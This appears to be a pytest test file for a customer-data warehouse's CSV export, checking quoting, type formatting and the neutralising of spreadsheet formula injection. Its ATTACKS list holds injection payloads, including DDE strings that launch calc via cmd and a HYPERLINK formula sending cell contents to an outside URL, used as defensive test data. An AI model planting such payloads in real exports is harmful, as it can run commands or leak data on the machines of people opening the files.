"""How each value is written, and that a CSV reader gets it back."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable, Iterator, Sequence

import psycopg
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from psycopg import sql

from customer360 import warehouse
from customer360.export.dialect import SESSION, copy_command, kind_of

Write = Callable[[str, Sequence[object]], str]

LINE_BREAKS = re.compile("\r\n|[\n\v\f\r\x85\u2028\u2029]")

ATTACKS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.com?x="&A1,"click")',
    "=WEBSERVICE(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\ufeff=1+1",
    "\u200b@SUM(A1)",
    "\u00a0+1-A1",
    "\uff1d1+1",
    "\uff0b1+A1",
    "\uff0d1+A1",
    "\uff20SUM(A1)",
    "=-5",
    "+33 6 12 34 56 78=1",
    "-5\n=1+1",
    "+1-2",
    "-A1",
    "\tharmless, but a spreadsheet may drop the tab",
    "'=1+1",
    "''=1+1",
]
LEGITIMATE = [
    "+33612345678",
    "+33 6 12 34 56 78",
    "+1 (555) 010-0199",
    "+49 89/123456",
    "+44 20 7946 0958 x12",
    "+1-555-010-0199 ext. 7",
    "-5",
    "-5.25",
    "-1,234.50",
    "-1\u00a0234,50",
    "-1'234.50",
    "-",
    "--",
    "+33\u202f6\u202f12\u202f34\u202f56\u202f78",
    "+33 (0)6 12 34 56 78",
    "+0,5",
    "-.5",
    "1e5",
    "-1e5",
    "+1.5E-07",
    "-12 %",
    " -5",
    "0612345678",
    "00120",
    "a=b",
    "3-4",
    "jo+tag@example.com",
    "O'Neil",
    "'t Hart",
    "Renée -the cat- Müller",
    "李雷",
    "",
    "'",
    "?",
    "#1",
    "(555) 010-0199",
]


@pytest.fixture(scope="module")
def connection(server) -> Iterator[psycopg.Connection]:
    with warehouse.connect(server, "admin", autocommit=True) as connection:
        for name, value in SESSION.items():
            connection.execute("select set_config(%s, %s, false)", (name, value))
        yield connection


@pytest.fixture(scope="module")
def write(connection) -> Write:
    """Write one column of values of a SQL type; returns what COPY sends."""

    def write(sql_type: str, values: Sequence[object]) -> str:
        connection.execute("drop table if exists pg_temp.exported_values")
        connection.execute(
            f"create temp table exported_values (id integer, value {sql_type})".encode()
        )
        with connection.cursor() as cursor:
            with cursor.copy("copy pg_temp.exported_values from stdin") as copy:
                for number, value in enumerate(values):
                    copy.write_row((number, value))
            command = copy_command(
                sql.Identifier("pg_temp", "exported_values"),
                [("id", "integer"), ("value", sql_type)],
                ["id"],
            )
            with cursor.copy(command) as copy:
                return b"".join(copy).decode("utf-8")

    return write


@pytest.fixture(scope="module")
def one(write) -> Callable[[str, object], str]:
    """Write one value; returns the field as it stands in the file."""

    def one(sql_type: str, value: object) -> str:
        return write(sql_type, [value]).partition("\n0,")[2].removesuffix("\n")

    return one


def read(text: str) -> list[str]:
    rows = list(csv.reader(io.StringIO(text, newline=""), strict=True))
    assert rows[0] == ["id", "value"]
    assert [row[0] for row in rows[1:]] == [str(n) for n in range(len(rows) - 1)]
    return [row[1] for row in rows[1:]]


@pytest.mark.parametrize("text", ATTACKS)
def test_formulas_are_disarmed(write, text):
    [value] = read(write("text", [text]))
    assert value == "'" + LINE_BREAKS.sub(" ", text)


@pytest.mark.parametrize("text", LEGITIMATE)
def test_numbers_phones_and_words_are_left_alone(write, text):
    assert read(write("text", [text])) == [text]


def test_every_kind_of_text_is_guarded(one):
    assert one("varchar(20)", "=1+1") == "'=1+1"
    assert one("char(5)", "=1+1") == "'=1+1"
    assert one("name", "=1+1") == "'=1+1"
    assert one("jsonb", '{"a": "=1\\n2"}') == '"{""a"": ""=1\\n2""}"'
    assert one("text[]", ["=1", "a\nb"]) == '"{=1,""a b""}"'


nasty = st.text(
    st.one_of(
        st.sampled_from(
            "=+-@\t\r\n\v\f\x85\u2028\u2029'\",;|\\. "
            "\uff10\uff1d\uff0da1\u0663é\x01\x1a\x7f\ufeff"
        ),
        st.characters(exclude_categories=["Cs"], exclude_characters="\x00"),
    )
)


@given(values=st.lists(st.none() | nasty, min_size=1, max_size=60))
@settings(
    max_examples=150,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)
def test_a_csv_reader_gets_the_values_back(write, values):
    text = write("text", values)

    assert text.count("\n") == len(values) + 1, "a line break within a value"
    assert not re.search("[\r\v\f\x85\u2028\u2029]", text)
    for value, found in zip(values, read(text), strict=True):
        flat = LINE_BREAKS.sub(" ", value or "")
        assert found in (flat, "'" + flat)
        if found != flat:
            assert re.match(r"'*[\W_]", flat)
    # PostgreSQL's own reader tells empty from missing as well
    fields = text.split("\n")[1:-1]
    for value, field in zip(values, fields, strict=True):
        assert (field.endswith(",")) == (value is None)
        assert (field.endswith(',""')) == (value == "")


@given(values=st.lists(nasty, min_size=1, max_size=60))
@settings(
    max_examples=100,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)
def test_nothing_that_a_spreadsheet_may_run_gets_through(write, values):
    number = re.compile(
        r"[+-]?[0-9.,' \u00a0\u202f]+([eE][+-]?[0-9]+)?[ \u00a0\u202f]?%? *|-+ *"
    )
    for found in read(write("text", values)):
        start = found.lstrip(" \t\x01\x1a\x7f\x85\ufeff\u2028\u2029")
        if start[:1] in "=+-@\uff1d\uff0d" and start:
            assert number.fullmatch(start) or re.fullmatch(
                r"\+([ ()./\u00a0\u202f-]*[0-9]){7,15}( ?(x|ext\.?) ?[0-9]{1,6})? *",
                start,
            )


def test_the_guard_can_be_taken_off_again(write):
    texts = [*ATTACKS, *LEGITIMATE, "'-5", "' x", "''", "'+33612345678"]
    written = read(write("text", texts))
    # no two texts are written the same
    assert len(set(written)) == len({LINE_BREAKS.sub(" ", text) for text in texts})


def test_missing_and_empty_differ(write):
    assert write("text", [None, "", "x"]) == 'id,value\n0,\n1,""\n2,x\n'


def test_quotes_only_where_they_are_needed(one):
    assert one("text", "plain text; 3|4 'x'") == "plain text; 3|4 'x'"
    assert one("text", 'a,"b"') == '"a,""b"""'
    assert one("text", " padded ") == " padded "
    assert one("text", "\\.") == "\\."


@pytest.mark.parametrize(
    ("sql_type", "value", "written"),
    [
        ("smallint", "-7", "-7"),
        ("integer", "0", "0"),
        ("bigint", "9223372036854775807", "9223372036854775807"),
        ("numeric(12,2)", "-1234567.5", "-1234567.50"),
        ("numeric", "0.10", "0.10"),
        ("numeric", "1e30", "1" + 30 * "0"),
        ("numeric", "NaN", ""),
        ("numeric", "Infinity", ""),
        ("numeric(12,2)", "NaN", ""),
        ("double precision", "0.1", "0.1"),
        ("double precision", "1e-7", "1e-07"),
        ("double precision", "2.5e300", "2.5e+300"),
        ("double precision", "NaN", ""),
        ("double precision", "-Infinity", ""),
        ("real", "0.1", "0.1"),
        ("boolean", "t", "true"),
        ("boolean", "f", "false"),
        ("date", "2026-06-30", "2026-06-30"),
        ("date", "0001-01-01", "0001-01-01"),
        ("date", "9999-12-31", "9999-12-31"),
        ("date", "10000-01-01", ""),
        ("date", "0044-03-15 BC", ""),
        ("date", "infinity", ""),
        (
            "timestamp without time zone",
            "2026-06-30 23:59:59.999",
            "2026-06-30T23:59:59",
        ),
        ("timestamp without time zone", "1969-12-31 23:59:59.5", "1969-12-31T23:59:59"),
        ("timestamp without time zone", "-infinity", ""),
        ("timestamp without time zone", "10000-01-01 00:00", ""),
        ("timestamp(0) without time zone", "2026-06-30 12:00", "2026-06-30T12:00:00"),
        ("timestamp with time zone", "2026-06-30 23:30-02", "2026-07-01T01:30:00"),
        ("timestamp(3) with time zone", "2026-06-30 23:30-02", "2026-07-01T01:30:00"),
        ("timestamp with time zone", "infinity", ""),
        ("time without time zone", "09:05", "09:05:00"),
        ("uuid", "a0eebc99-9c0b-4ef8-bb6d-6bb9bd380a11", None),
        ("text", "0612", "0612"),
    ],
)
def test_values_of_each_type(one, sql_type, value, written):
    assert one(sql_type, value) == (value if written is None else written)
    assert one(sql_type, None) == ""


def test_the_server_may_stand_in_any_country(connection, one):
    """What `export` sets is enough, whatever the server's defaults are."""
    for name, value in (
        ("DateStyle", "German"),
        ("TimeZone", "Pacific/Auckland"),
        ("extra_float_digits", "-2"),
        ("IntervalStyle", "postgres"),
    ):
        connection.execute("select set_config(%s, %s, false)", (name, value))
    for name, value in SESSION.items():
        connection.execute("select set_config(%s, %s, false)", (name, value))
    assert one("date", "2026-06-30") == "2026-06-30"
    assert one("timestamp with time zone", "2026-06-30T00:00Z") == "2026-06-30T00:00:00"
    assert one("double precision", "0.1") == "0.1"
    assert one("interval", "1 day 2 hours") == "P1DT2H"


@pytest.mark.parametrize(
    ("sql_type", "kind"),
    [
        ("text", "text"),
        ("character varying(20)", "text"),
        ("uuid", "text"),
        ("jsonb", "text"),
        ("bigint", "integer"),
        ("numeric(12,2)", "decimal"),
        ("numeric", "decimal"),
        ("double precision", "number"),
        ("boolean", "boolean"),
        ("date", "date"),
        ("timestamp without time zone", "timestamp"),
        ("timestamp with time zone", "timestamp"),
        ("time without time zone", "time"),
        ("timestamp(3) with time zone", "timestamp"),
        ("time(0) without time zone", "time"),
        ("numeric(12,2)[]", "text"),
        ("integer[]", "text"),
    ],
)
def test_kinds(sql_type, kind):
    assert kind_of(sql_type) == kind
